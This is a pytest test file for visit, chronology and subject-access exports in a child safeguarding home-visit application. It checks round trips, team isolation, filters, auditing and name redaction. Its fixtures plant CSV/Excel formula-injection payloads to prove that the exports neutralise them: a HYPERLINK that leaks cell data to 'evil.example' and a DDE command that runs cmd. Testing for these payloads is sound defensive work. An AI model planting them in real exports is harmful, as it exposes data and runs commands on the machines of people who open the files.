"""Exports: visit history in CSV, ZIP, JSON, NDJSON and XLSX; the data dictionary; a child's chronology and
subject access export. Round trips equal what is stored, formulas stay inert, another team's records never
appear, filters pick exactly the right visits, and every export is audited with its row counts."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import date, timedelta

import openpyxl
import pytest

from helpers import assert_page_well_formed, full_visit, make_child
from homevisit.data import store
from homevisit.domain.dictionary import (
    BODY_SITES,
    BOOL,
    CARER_FIELDS,
    INJURY_FIELDS,
    MULTI,
    VISIT_FIELDS,
    dictionary_rows,
)
from homevisit.domain.rules import load_rules
from homevisit.services import actions as actions_mod
from homevisit.services import concerns, exports, visits

TODAY = date.today()
D = TODAY - timedelta(days=20)  # the boundary day of the date filter tests
SENTINEL = "SENTINELB"
FORMULAS = {"observed_verbatim": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "interpretation": "+1",
            "feed_notes": "-1", "disclosure_details": "@SUM(A1:A9)", "account_consistency": "\t=1",
            "agencies_involved": "\r=2+3"}
VISIT_COLUMNS = [c.name for c in exports.VISITS.columns]
KINDS = {c.name: c.kind for c in exports.VISITS.columns}


def put(client, headers, body):
    response = client.put(f"/api/v1/visits/{body['id']}", data=json.dumps(body),
                          headers={**headers, "Content-Type": "application/json"})
    assert response.status_code == 201, response.get_data(as_text=True)
    return response.get_json()


def at(day: date, clock: str) -> str:
    return f"{day.isoformat()}T{clock}:00+00:00"


@pytest.fixture
def world(app, db, users, token_for):
    """Team A: two children, visits by two practitioners either side of day D, one with marks, named carers
    and restraint (rule R01), one with formula payloads, one with backslashes; a concern. Team B: a child and a
    visit full of sentinel values, plus a visit wrongly filed under team A but on team B's child."""
    client = app.test_client()
    hv, sw = token_for("practitioner"), token_for("practitioner2")
    a1 = make_child(db, users["practitioner"], given_name="Ava", family_name="Able")
    a2 = make_child(db, users["practitioner"], given_name="Ben", family_name="Baker")
    b1 = make_child(db, users["other"], given_name=f"{SENTINEL}-child", family_name=f"{SENTINEL}-family")
    carers = [{"role": "mother", "name": "Kezia Farthingale", "parental_responsibility": True, "lives_here": True,
               "present_throughout": True},
              {"role": "partner_of_parent", "name": "Dorian Quill", "parental_responsibility": False,
               "lives_here": None, "present_throughout": False}]
    injury = {"type": "bruise", "body_site": "left_upper_arm", "size_mm": 15, "pattern": "grip", "count": 2,
              "clustered": True, "colour": "blue, with a \"yellow\" edge", "explanation": "Said he fell, per Kezia",
              "explanation_given_by": "Kezia Farthingale", "explanation_assessment": "inconsistent",
              "first_noticed_date": (D - timedelta(days=2)).isoformat(), "medical_help_sought": False,
              "photo_taken": None}
    made = {
        "before": put(client, hv, full_visit(a1["id"], visited_at=at(D - timedelta(days=1), "23:59"))),
        "start": put(client, hv, full_visit(a1["id"], visited_at=at(D, "00:00"), restraint_observed=True,
                                            injuries=[injury], carers_present=carers, items_in_cot=["pillow", "bumper"],
                                            observed_verbatim="Kezia said:\n\"He fell.\"\nDorian Quill said nothing.")),
        "end": put(client, sw, full_visit(a2["id"], visited_at=at(D, "23:59"), visitor_role="social_worker",
                                          restraint_observed=True, weight_kg=None, weight_clothing=None)),
        "after": put(client, sw, full_visit(a2["id"], visited_at=at(D + timedelta(days=1), "00:00"),
                                            visitor_role="social_worker", child_seen="not_seen",
                                            child_not_seen_reason="Mr Pike at the door said they were out",
                                            weight_kg=None, weight_clothing=None)),
        "formulas": put(client, hv, full_visit(a2["id"], visited_at=at(D + timedelta(days=3), "09:00"),
                                               weight_kg=None, weight_clothing=None)),
        "backslash": put(client, hv, full_visit(a1["id"], visited_at=at(D + timedelta(days=4), "09:00"),
                                                feed_notes="Saved to C:\\notes\\new and \\u0041 typed \u00e9\u2028.")),
    }
    for name, value in FORMULAS.items():  # planted as stored, past any validation: the export must hold anyway
        store.execute(db, f"UPDATE visits SET {name} = ? WHERE id = ?", (value, made["formulas"]["id"]))
    store.execute(db, "UPDATE carers_present SET name = ? WHERE visit_id = ? AND position = 0",
                  ("=cmd|' /C calc'!A0", made["formulas"]["id"]))
    b_visit = put(client, token_for("other"), full_visit(
        b1["id"], visited_at=at(D, "12:00"), observed_verbatim=f"{SENTINEL}-notes",
        carers_present=[{"role": "father", "name": f"{SENTINEL}-carer", "parental_responsibility": True}]))
    misfiled = dict(store.query_one(db, "SELECT * FROM visits WHERE id = ?", (b_visit["id"],)))
    misfiled.update(id="00000000-0000-4000-8000-00000000b0b0", team_id=users["practitioner"]["team_id"],
                    observed_verbatim=f"{SENTINEL}-misfiled")
    store.insert(db, "visits", misfiled)
    concerns.record_concern(db, a1, users["practitioner"], {
        "occurred_on": D.isoformat(), "reporter_role": "housing_officer", "agency": "Northfield Housing",
        "source": "Gas engineer Walter Brine", "summary": "Walter Brine heard shouting", "categories": ["other"]},
        load_rules(), history=visits.history_for(db, a1["id"]))
    done = store.query_one(db, "SELECT id FROM actions WHERE visit_id = ? AND rule_id = 'R01'", (made["end"]["id"],))
    actions_mod.complete(db, done["id"], users["supervisor"], outcome="Strategy discussion held")
    return {"a1": a1, "a2": a2, "b1": b1, "visits": made, "b_visit": b_visit}


def export(app, headers, path, **kw):
    response = app.test_client().get(path, headers=headers, **kw)
    assert response.status_code == 200, response.get_data(as_text=True)
    return response


def csv_rows(data: bytes) -> list[dict[str, str]]:
    assert data.endswith(b"\r\n")
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


def stored(db, table: str, order: str = "id") -> list[dict]:
    return store.query(db, f"SELECT * FROM {table} ORDER BY {order}")


def team_a_visits(db, users):
    return [v for v in store.query(db, "SELECT * FROM visits WHERE team_id = ? AND status != 'draft' "
                                       "AND id != '00000000-0000-4000-8000-00000000b0b0' ORDER BY visited_at, id",
                                   (users["supervisor"]["team_id"],))]


def as_csv(kind_or_field, value) -> str:
    """What a stored value must look like in CSV, worked out independently of the exporter."""
    kind = kind_or_field.kind if hasattr(kind_or_field, "kind") else kind_or_field
    if value is None:
        return ""
    if kind in (BOOL, "bool"):
        return "true" if value else "false"
    if kind in (MULTI, "multi"):
        return ";".join(json.loads(value))
    if isinstance(value, str):
        return "'" + value if value[:1] in ("=", "+", "-", "@", "\t", "\r") else value
    return value


def assert_csv_cell(kind, cell: str, value) -> None:
    if isinstance(value, (int, float)) and kind not in ("bool", BOOL):
        assert float(cell) == value
    else:
        assert cell == as_csv(kind, value)


# --- round trips ------------------------------------------------------------------------------------

def test_csv_round_trip_equals_the_stored_visits_in_order(app, db, users, world, token_for):
    response = export(app, token_for("supervisor"), "/api/v1/exports/visits.csv")
    assert response.mimetype == "text/csv" and "header=present" in response.content_type
    assert response.headers["Content-Disposition"] == f'attachment; filename="visits-{TODAY.isoformat()}.csv"'
    text = response.get_data()
    assert text.split(b"\r\n")[0].decode() == ",".join(VISIT_COLUMNS)
    rows = csv_rows(text)
    expected = team_a_visits(db, users)
    assert [r["id"] for r in rows] == [v["id"] for v in expected]
    for row, visit in zip(rows, expected, strict=True):
        assert list(row) == VISIT_COLUMNS
        for name in VISIT_COLUMNS:
            assert_csv_cell(KINDS[name], row[name], visit[name])
    start = next(r for r in rows if r["id"] == world["visits"]["start"]["id"])
    assert start["items_in_cot"] == "pillow;bumper" and start["restraint_observed"] == "true"
    assert start["observed_verbatim"] == 'Kezia said:\n"He fell."\nDorian Quill said nothing.'
    assert next(r for r in rows if r["id"] == world["visits"]["end"]["id"])["weight_kg"] == ""


def test_zip_holds_visits_injuries_carers_and_actions_keyed_by_visit_id(app, db, users, world, token_for):
    data = export(app, token_for("admin"), "/api/v1/exports/visits.zip").get_data()
    archive = zipfile.ZipFile(io.BytesIO(data))
    assert archive.namelist() == ["visits.csv", "injuries.csv", "carers_present.csv", "actions.csv"]
    ids = {v["id"] for v in team_a_visits(db, users)}
    assert {r["id"] for r in csv_rows(archive.read("visits.csv"))} == ids
    for member, table, fields in (("injuries.csv", "injuries", INJURY_FIELDS),
                                  ("carers_present.csv", "carers_present", CARER_FIELDS)):
        rows = {(r["visit_id"], r["position"]): r for r in csv_rows(archive.read(member))}
        kept = [s for s in stored(db, table) if s["visit_id"] in ids]
        assert len(rows) == len(kept) > 0
        for s in kept:
            row = rows[(s["visit_id"], str(s["position"]))]
            for f in fields:
                assert_csv_cell(f.kind, row[f.name], s[f.name])
            if table == "injuries":  # the region in words beside its code, for an analyst reading the sheet
                assert row["body_site_words"] == (dict(BODY_SITES)[s["body_site"]] if s["body_site"] else "")
    actions = csv_rows(archive.read("actions.csv"))
    kept = [a for a in stored(db, "actions") if a["visit_id"] in ids]
    assert sorted((r["visit_id"], r["id"], r["rule_id"], r["status"]) for r in actions) == sorted(
        (a["visit_id"], a["id"], a["rule_id"], a["status"]) for a in kept)


def _assert_visit_document(db, document):
    row = store.decode_visit_row(store.query_one(db, "SELECT * FROM visits WHERE id = ?", (document["id"],)))
    assert list(document) == VISIT_COLUMNS + ["injuries", "carers_present", "actions"]
    for name in VISIT_COLUMNS:
        assert document[name] == row[name], name
    for key, table, fields in (("injuries", "injuries", INJURY_FIELDS), ("carers_present", "carers_present", CARER_FIELDS)):
        rows = [store.decode_row(fields, r) for r in store.query(
            db, f"SELECT * FROM {table} WHERE visit_id = ? ORDER BY position", (document["id"],))]
        assert document[key] == [{f.name: r[f.name] for f in fields} for r in rows]
    assert sorted(a["id"] for a in document["actions"]) == sorted(
        a["id"] for a in store.query(db, "SELECT id FROM actions WHERE visit_id = ?", (document["id"],)))
    for action in document["actions"]:
        assert isinstance(action["requires_referral"], bool)


def test_json_and_ndjson_round_trip_with_nested_lists(app, db, users, world, token_for):
    headers = token_for("supervisor")
    documents = json.loads(export(app, headers, "/api/v1/exports/visits.json").get_data())
    assert [d["id"] for d in documents] == [v["id"] for v in team_a_visits(db, users)]
    for document in documents:
        _assert_visit_document(db, document)
    start = next(d for d in documents if d["id"] == world["visits"]["start"]["id"])
    assert start["items_in_cot"] == ["pillow", "bumper"] and start["restraint_observed"] is True
    assert start["carers_present"][1]["lives_here"] is None  # not observed stays null, never false
    response = export(app, {**headers, "Accept": "application/x-ndjson"}, "/api/v1/exports/visits.json")
    assert response.mimetype == "application/x-ndjson"
    lines = response.get_data().split(b"\n")  # not splitlines(): U+2028 in a note is not a line break in NDJSON
    assert lines[-1] == b"" and [json.loads(line) for line in lines[:-1]] == documents


def test_xlsx_round_trip_a_sheet_each(app, db, users, world, token_for):
    data = export(app, token_for("supervisor"), "/api/v1/exports/visits.xlsx").get_data()
    book = openpyxl.load_workbook(io.BytesIO(data), read_only=True)
    assert book.sheetnames == ["visits", "injuries", "carers_present", "actions"]
    rows = list(book["visits"].iter_rows(values_only=True))
    assert list(rows[0]) == VISIT_COLUMNS
    expected = team_a_visits(db, users)
    assert [r[0] for r in rows[1:]] == [v["id"] for v in expected]
    for values, visit in zip(rows[1:], expected, strict=True):
        values = values + (None,) * (len(VISIT_COLUMNS) - len(values))  # a row ends at its last filled cell
        decoded = store.decode_visit_row(visit)
        for name, value in zip(VISIT_COLUMNS, values, strict=True):
            want = ";".join(decoded[name]) if KINDS[name] == "multi" and decoded[name] is not None else decoded[name]
            if isinstance(want, float):  # openpyxl writes 16 significant digits (Excel itself keeps 15)
                want = pytest.approx(want, rel=1e-15, abs=0)
            assert value == want, name
    carers = list(book["carers_present"].iter_rows(values_only=True))
    ids = {v["id"] for v in expected}
    kept = [store.decode_row(CARER_FIELDS, c) for c in stored(db, "carers_present", "visit_id, position")
            if c["visit_id"] in ids]
    carers = [r + (None,) * (len(carers[0]) - len(r)) for r in carers]
    assert sorted(carers[1:], key=lambda r: (r[0], r[1])) == sorted(
        [(c["visit_id"], c["position"], *(c[f.name] for f in CARER_FIELDS)) for c in kept], key=lambda r: (r[0], r[1]))
    injuries = list(book["injuries"].iter_rows(values_only=True))
    assert injuries[1][0] == world["visits"]["start"]["id"] and injuries[1][injuries[0].index("clustered")] is True
    book.close()


# --- formulas ---------------------------------------------------------------------------------------

def test_formula_payloads_are_inert_in_csv(app, world, token_for):
    rows = csv_rows(export(app, token_for("supervisor"), "/api/v1/exports/visits.csv").get_data())
    row = next(r for r in rows if r["id"] == world["visits"]["formulas"]["id"])
    for name, payload in FORMULAS.items():
        assert row[name] == "'" + payload
    archive = zipfile.ZipFile(io.BytesIO(export(app, token_for("supervisor"), "/api/v1/exports/visits.zip").get_data()))
    carers = csv_rows(archive.read("carers_present.csv"))
    assert "'=cmd|' /C calc'!A0" in [r["name"] for r in carers]
    for member in archive.namelist():
        for r in csv_rows(archive.read(member)):
            assert not any(v[:1] in ("=", "+", "@", "\t", "\r") for v in r.values()), r


def test_formula_payloads_are_plain_strings_in_xlsx(app, world, token_for):
    data = export(app, token_for("supervisor"), "/api/v1/exports/visits.xlsx").get_data()
    book = openpyxl.load_workbook(io.BytesIO(data))
    sheet = book["visits"]
    header = [c.value for c in sheet[1]]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == world["visits"]["formulas"]["id"])
    for name, payload in FORMULAS.items():
        cell = row[header.index(name)]
        assert cell.value == payload and cell.data_type == "s", name
    carer = next(r for r in book["carers_present"].iter_rows(min_row=2) if r[0].value == world["visits"]["formulas"]["id"])
    assert carer[3].value == "=cmd|' /C calc'!A0" and carer[3].data_type == "s"
    archive = zipfile.ZipFile(io.BytesIO(data))
    for name in archive.namelist():
        if name.startswith("xl/worksheets/"):
            assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)


def test_text_with_escapes_survives_the_csv_fast_and_careful_paths(app, db, world, token_for):
    headers = token_for("supervisor")
    notes = store.query_one(db, "SELECT feed_notes FROM visits WHERE id = ?", (world["visits"]["backslash"]["id"],))
    assert "\\" in notes["feed_notes"] and "\u00e9" in notes["feed_notes"]
    for child in ("a1", "a2"):  # a1's chunk has backslashes (written row by row); a2's only quotes and newlines
        rows = csv_rows(export(app, headers, f"/api/v1/exports/visits.csv?child_id={world[child]['id']}").get_data())
        assert len(rows) == 3
        for row in rows:
            visit = store.query_one(db, "SELECT * FROM visits WHERE id = ?", (row["id"],))
            for name in VISIT_COLUMNS:
                assert_csv_cell(KINDS[name], row[name], visit[name])
        assert (notes["feed_notes"] in [r["feed_notes"] for r in rows]) == (child == "a1")


# --- team scope ---------------------------------------------------------------------------------------

def _texts(data: bytes) -> list[bytes]:
    if data[:2] == b"PK":
        archive = zipfile.ZipFile(io.BytesIO(data))
        return [archive.read(name) for name in archive.namelist()]
    return [data]


def test_team_b_never_appears_in_team_a_exports_in_any_format(app, world, token_for):
    headers = token_for("supervisor")
    a1 = world["a1"]["id"]
    paths = ["/api/v1/exports/visits.csv", "/api/v1/exports/visits.zip", "/api/v1/exports/visits.json",
             "/api/v1/exports/visits.xlsx", f"/api/v1/exports/children/{a1}/chronology.csv",
             f"/api/v1/exports/children/{a1}/subject-access.zip",
             f"/api/v1/exports/visits.csv?from={D.isoformat()}&to={D.isoformat()}"]
    for path in paths:
        for text in _texts(export(app, headers, path).get_data()):
            assert SENTINEL.encode() not in text, path
    ndjson = export(app, {**headers, "Accept": "application/x-ndjson"}, "/api/v1/exports/visits.json").get_data()
    assert SENTINEL.encode() not in ndjson and ndjson.count(b"\n") == 6
    own = export(app, token_for("other_supervisor"), "/api/v1/exports/visits.json").get_json()
    assert [d["observed_verbatim"] for d in own] == [f"{SENTINEL}-notes"]


def test_another_teams_child_practitioner_or_team_is_not_found(app, users, world, token_for):
    client, headers = app.test_client(), token_for("supervisor")
    b1 = world["b1"]["id"]
    for path in (f"/api/v1/exports/visits.csv?child_id={b1}", f"/api/v1/exports/children/{b1}/chronology.csv",
                 f"/api/v1/exports/children/{b1}/subject-access.zip", f"/api/v1/exports/children/{b1}/chronology.pdf",
                 f"/api/v1/exports/visits.json?practitioner={users['other']['id']}",
                 f"/api/v1/exports/visits.zip?team={users['other']['team_id']}"):
        response = client.get(path, headers=headers)
        assert response.status_code == 404, path
        assert response.mimetype == "application/problem+json"
    assert client.get(f"/exports/children/{b1}/chronology.csv").status_code == 302  # signed out: to sign in


def test_no_token_401_and_practitioners_403(app, world, token_for):
    client = app.test_client()
    for path in ("/api/v1/exports/visits.csv", "/api/v1/exports/dictionary.json",
                 f"/api/v1/exports/children/{world['a1']['id']}/chronology.csv"):
        response = client.get(path)
        assert response.status_code == 401 and response.mimetype == "application/problem+json"
    for path in ("/api/v1/exports/visits.csv", "/api/v1/exports/visits.zip", "/api/v1/exports/visits.json",
                 "/api/v1/exports/visits.xlsx", f"/api/v1/exports/children/{world['a1']['id']}/subject-access.zip"):
        response = client.get(path, headers=token_for("practitioner"))
        assert response.status_code == 403 and response.get_json(force=True)["status"] == 403
    assert client.get(f"/api/v1/exports/children/{world['a1']['id']}/chronology.csv",
                      headers=token_for("practitioner")).get_data().startswith(b"at,kind,id,")
    own_team = client.get("/api/v1/exports/visits.json?team=" + str(world["a1"]["team_id"]), headers=token_for("supervisor"))
    assert own_team.status_code == 200 and len(own_team.get_json()) == 6


# --- filters ------------------------------------------------------------------------------------------

def _ids(app, headers, query: str) -> set[str]:
    return {d["id"] for d in export(app, headers, f"/api/v1/exports/visits.json?{query}").get_json()}


def test_filters_pick_exactly_the_right_visits(app, db, users, world, token_for):
    headers, v = token_for("supervisor"), world["visits"]
    day = D.isoformat()
    assert _ids(app, headers, f"from={day}&to={day}") == {v["start"]["id"], v["end"]["id"]}
    assert _ids(app, headers, f"from={day}") == {v[k]["id"] for k in ("start", "end", "after", "formulas", "backslash")}
    assert _ids(app, headers, f"to={day}") == {v[k]["id"] for k in ("before", "start", "end")}
    assert _ids(app, headers, f"child_id={world['a2']['id']}") == {v[k]["id"] for k in ("end", "after", "formulas")}
    assert _ids(app, headers, f"practitioner={users['practitioner2']['id']}") == {v["end"]["id"], v["after"]["id"]}
    fired = {a["visit_id"] for a in store.query(db, "SELECT visit_id FROM actions WHERE rule_id = 'R01'")}
    assert fired == {v["start"]["id"], v["end"]["id"]}
    assert _ids(app, headers, "rule=R01") == fired
    assert _ids(app, headers, "action_status=done") == {v["end"]["id"]}
    assert _ids(app, headers, "rule=R01&action_status=open") == {v["start"]["id"]}
    assert _ids(app, headers, f"rule=R01&child_id={world['a1']['id']}&from={day}&to={day}") == {v["start"]["id"]}


def test_bad_filters_get_422_with_what_to_do(app, world, token_for):
    response = app.test_client().get("/api/v1/exports/visits.csv?from=2026-02-30&to=x&action_status=maybe&rule=R%3B1",
                                     headers=token_for("supervisor"))
    assert response.status_code == 422
    errors = response.get_json(force=True)["errors"]
    assert errors == {"from": ["Enter the start date as a real date, like 2026-11-24"],
                      "to": ["Enter the end date as a real date, like 2026-11-24"],
                      "rule": ["Enter a rule id, like R05"],
                      "action_status": ["Select an action status: open, done or not done"]}
    response = app.test_client().get("/api/v1/exports/visits.csv?from=2026-03-02&to=2026-03-01",
                                     headers=token_for("supervisor"))
    assert response.get_json(force=True)["errors"] == {"to": ["The end date must be the same as or after the start date"]}


# --- audit and streaming ------------------------------------------------------------------------------

def test_every_export_is_audited_with_its_row_counts(app, db, users, world, token_for):
    export(app, token_for("supervisor"), f"/api/v1/exports/visits.zip?child_id={world['a1']['id']}").get_data()
    entry = store.query(db, "SELECT * FROM audit_log WHERE action = 'export' ORDER BY id")[-1]
    detail = json.loads(entry["detail"])
    assert entry["user_id"] == users["supervisor"]["id"] and entry["object_type"] == "visits"
    assert entry["child_id"] == world["a1"]["id"]
    assert detail["format"] == "zip" and detail["completed"] is True
    assert detail["filters"] == {"team": users["supervisor"]["team_id"], "child_id": world["a1"]["id"]}
    assert detail["rows"] == {"visits": 3, "injuries": 1, "carers_present": 4, "actions": len(store.query(
        db, "SELECT a.id FROM actions a JOIN visits v ON v.id = a.visit_id WHERE v.child_id = ?", (world["a1"]["id"],)))}
    for path, what, fmt in ((f"/api/v1/exports/visits.xlsx?from={D.isoformat()}", "visits", "xlsx"),
                            (f"/api/v1/exports/children/{world['a1']['id']}/chronology.csv", "chronology", "csv"),
                            (f"/api/v1/exports/children/{world['a1']['id']}/subject-access.zip?redact=1",
                             "subject_access", "zip")):
        export(app, token_for("admin"), path).get_data()
        entry = store.query(db, "SELECT * FROM audit_log WHERE action = 'export' ORDER BY id")[-1]
        assert (entry["object_type"], json.loads(entry["detail"])["format"]) == (what, fmt)
        assert entry["user_id"] == users["admin"]["id"] and sum(json.loads(entry["detail"])["rows"].values()) > 0
    assert store.query_one(db, "SELECT COUNT(*) AS n FROM audit_log WHERE action = 'export'")["n"] == 4


def test_responses_are_streamed_and_a_download_cut_short_is_still_audited(app, db, users, world, token_for):
    headers = token_for("supervisor")
    for fmt in ("csv", "zip", "json", "xlsx"):
        with app.test_request_context(f"/api/v1/exports/visits.{fmt}", headers=headers):
            response = app.full_dispatch_request()
            assert response.status_code == 200 and response.is_streamed
            chunks = list(response.response)
            response.close()
        assert len(chunks) > 1 or fmt == "xlsx"
    for fmt in ("csv", "zip"):
        before = store.query_one(db, "SELECT COUNT(*) AS n FROM audit_log WHERE action = 'export'")["n"]
        with app.test_request_context(f"/api/v1/exports/visits.{fmt}", headers=headers):
            response = app.full_dispatch_request()
            next(iter(response.response))  # the first chunk, then the client goes away
            response.close()
        entries = store.query(db, "SELECT * FROM audit_log WHERE action = 'export' ORDER BY id")
        assert len(entries) == before + 1 and json.loads(entries[-1]["detail"])["completed"] is False


# --- one child's records ------------------------------------------------------------------------------

def test_chronology_csv_and_pdf(app, db, world, token_for):
    a1 = world["a1"]["id"]
    response = export(app, token_for("practitioner"), f"/api/v1/exports/children/{a1}/chronology.csv")
    assert response.headers["Content-Disposition"] == f'attachment; filename="child-{a1}-chronology.csv"'
    rows = csv_rows(response.get_data())
    assert list(rows[0]) == list(exports.CHRONOLOGY_COLUMNS)
    assert [r["at"] for r in rows] == sorted(r["at"] for r in rows)
    assert {r["kind"] for r in rows} == {"visit", "concern", "action"}
    assert sum(r["kind"] == "visit" for r in rows) == 3
    pdf = export(app, token_for("supervisor"), f"/api/v1/exports/children/{a1}/chronology.pdf")
    assert pdf.mimetype == "application/pdf" and pdf.get_data().startswith(b"%PDF")
    assert store.query(db, "SELECT detail FROM audit_log WHERE action = 'export' ORDER BY id")[-1]["detail"].count('"pdf"')


def _subject_access(app, headers, child_id, redact):
    data = export(app, headers, f"/api/v1/exports/children/{child_id}/subject-access.zip"
                                + ("?redact=1" if redact else "")).get_data()
    return zipfile.ZipFile(io.BytesIO(data))


def test_subject_access_export_holds_everything_about_the_child(app, db, world, token_for):
    archive = _subject_access(app, token_for("supervisor"), world["a1"]["id"], redact=False)
    assert archive.namelist() == ["child.json", "visits.csv", "visits.json", "injuries.csv", "carers_present.csv",
                                  "actions.csv", "concerns.csv", "referrals.csv", "referral_responses.csv",
                                  "strategy_discussions.csv", "audit_trail.csv"]
    child = json.loads(archive.read("child.json"))
    assert child["id"] == world["a1"]["id"] and child["third_party_names_redacted"] is False
    assert len(csv_rows(archive.read("visits.csv"))) == len(json.loads(archive.read("visits.json"))) == 3
    for document in json.loads(archive.read("visits.json")):
        _assert_visit_document(db, document)
    assert {r["name"] for r in csv_rows(archive.read("carers_present.csv"))} == {"Kezia Farthingale", "Dorian Quill", ""}
    assert csv_rows(archive.read("concerns.csv"))[0]["source"] == "Gas engineer Walter Brine"
    trail = csv_rows(archive.read("audit_trail.csv"))
    assert {"create", "submit", "record_concern"} <= {r["action"] for r in trail}


def test_redaction_replaces_third_party_names(app, world, token_for):
    archive = _subject_access(app, token_for("supervisor"), world["a1"]["id"], redact=True)
    everything = b"".join(archive.read(name) for name in archive.namelist()).decode("utf-8")
    for name in ("Kezia", "Farthingale", "Dorian", "Quill", "Walter Brine"):
        assert name not in everything, name
    assert {r["name"] for r in csv_rows(archive.read("carers_present.csv"))} == {"[redacted]", ""}
    assert csv_rows(archive.read("injuries.csv"))[0]["explanation_given_by"] == "[redacted]"
    assert csv_rows(archive.read("injuries.csv"))[0]["explanation"] == "Said he fell, per [redacted]"
    assert csv_rows(archive.read("concerns.csv"))[0]["source"] == "[redacted]"
    visit = next(v for v in json.loads(archive.read("visits.json")) if v["id"] == world["visits"]["start"]["id"])
    assert visit["observed_verbatim"] == '[redacted] said:\n"He fell."\n[redacted] said nothing.'
    assert json.loads(archive.read("child.json"))["given_name"] == "Ava"  # the data subject is kept
    assert "Ava" in archive.read("child.json").decode() and json.loads(archive.read("child.json"))["third_party_names_redacted"]
    other = _subject_access(app, token_for("supervisor"), world["a2"]["id"], redact=True)
    after = next(r for r in csv_rows(other.read("visits.csv")) if r["id"] == world["visits"]["after"]["id"])
    assert after["child_not_seen_reason"] == "[redacted] at the door said they were out"


def test_redactor_keeps_ordinary_words_and_the_childs_name():
    redactor = exports.Redactor(["Will Test", "Mother", "Mr Pike"], keep=["Ava", "Test"])
    assert redactor.text("Will Test said he will call. Ava Test smiled. Mother agreed.") == (
        "[redacted] said he will call. Ava Test smiled. Mother agreed.")
    assert redactor.text("Will came back; Dr Okafor and Mr Pike were told.") == (
        "[redacted] came back; [redacted] and [redacted] were told.")


# --- the data dictionary and the pages ----------------------------------------------------------------

def test_data_dictionary_csv_and_json(app, token_for):
    headers = token_for("practitioner")
    rows = csv_rows(export(app, headers, "/api/v1/exports/dictionary.csv").get_data())
    fields = json.loads(export(app, headers, "/api/v1/exports/dictionary.json").get_data())
    assert len(rows) == len(fields) == len(dictionary_rows())
    assert list(rows[0]) == list(exports.DICTIONARY_COLUMNS) == list(fields[0])
    assert {r["name"] for r in rows if r["entity"] == "visit"} == {f.name for f in VISIT_FIELDS}
    sleep = next(f for f in fields if f["name"] == "sleep_space")
    assert sleep["question"] == "Where does the child sleep?" and "cot (Cot)" in sleep["allowed_values"]


def test_dictionary_page_for_anyone_signed_in(signed_in):
    response = signed_in("practitioner").get("/exports/dictionary")
    soup = assert_page_well_formed(response.text)
    assert soup.h1.get_text(strip=True) == "Data dictionary"
    names = {code.get_text() for code in soup.select("#entity-visit code")}
    assert names == {f.name for f in VISIT_FIELDS}
    assert soup.find("a", href="/exports/dictionary.csv")
    download = signed_in("practitioner").get("/exports/dictionary.csv")
    assert download.status_code == 200 and len(csv_rows(download.get_data())) == len(dictionary_rows())


def test_export_page_for_supervisors_with_every_filter(signed_in, db, world):
    assert signed_in("practitioner").get("/exports/").status_code == 403
    soup = assert_page_well_formed(signed_in("supervisor").get("/exports/").text)
    assert soup.h1.get_text(strip=True) == "Export visit history"
    form = soup.find("form", action="/exports/visits")
    assert form["method"] == "get"
    names = {el["name"] for el in form.find_all(["input", "select"])}
    assert {"from-day", "from-month", "from-year", "to-day", "to-month", "to-year", "child_id", "practitioner",
            "rule", "action_status", "format"} <= names
    children = [o.get_text() for o in form.find("select", id="child_id").find_all("option")]
    assert any("Able, Ava" in c for c in children) and not any(SENTINEL in c for c in children)
    rules = [o["value"] for o in form.find("select", id="rule").find_all("option")]
    assert rules[0] == "" and "R01" in rules and rules[1:] == sorted(
        {a["rule_id"] for a in store.query(db, "SELECT rule_id FROM actions WHERE team_id = 1")})
    assert {r["value"] for r in form.find_all("input", attrs={"name": "format"})} == set(exports.FORMATS)
    assert soup.find("a", href="/exports/dictionary")
    assert " style=" not in str(soup)
    assert all(script.get("src") or script.get("nonce") for script in soup.find_all("script"))


def test_export_page_downloads_and_shows_errors(signed_in, world):
    browser = signed_in("admin")
    day = D
    response = browser.get(f"/exports/visits?from-day={day.day}&from-month={day.month}&from-year={day.year}"
                           f"&to-day={day.day}&to-month={day.month}&to-year={day.year}&format=csv")
    assert response.status_code == 200 and response.headers["Cache-Control"] == "no-store"
    assert {r["id"] for r in csv_rows(response.get_data())} == {world["visits"]["start"]["id"], world["visits"]["end"]["id"]}
    invalid = browser.get("/exports/visits?from-day=31&from-month=2&from-year=2026&format=")
    assert invalid.status_code == 422
    soup = assert_page_well_formed(invalid.text)
    summary = [a.get_text(strip=True) for a in soup.select(".govuk-error-summary a")]
    assert summary == ["Enter the start date as a real date, like 24 11 2026", "Select the format of the download"]
    assert soup.title.get_text().startswith("Error: ")
    assert browser.get(f"/exports/visits?child_id={world['b1']['id']}&format=csv").status_code == 404
    assert browser.get("/exports/visits").status_code == 302
    chosen = browser.get(f"/exports/child?record_child_id={world['a1']['id']}&records=subject-access.zip&redact=1")
    assert chosen.status_code == 302
    assert chosen.headers["Location"] == f"/exports/children/{world['a1']['id']}/subject-access.zip?redact=1"
    archive = zipfile.ZipFile(io.BytesIO(browser.get(chosen.headers["Location"]).get_data()))
    assert "Kezia" not in archive.read("carers_present.csv").decode()
    assert signed_in("practitioner").get(chosen.headers["Location"]).status_code == 403
    chronology = signed_in("practitioner").get(f"/exports/children/{world['a1']['id']}/chronology.csv")
    assert chronology.status_code == 200 and len(csv_rows(chronology.get_data())) > 3


def test_page_links_use_no_identifiers_beyond_the_record_id(signed_in, world):
    response = signed_in("supervisor").get(f"/exports/children/{world['a2']['id']}/chronology.csv")
    disposition = response.headers["Content-Disposition"]
    assert disposition == f'attachment; filename="child-{world["a2"]["id"]}-chronology.csv"'
    assert "Ben" not in disposition and "Baker" not in disposition
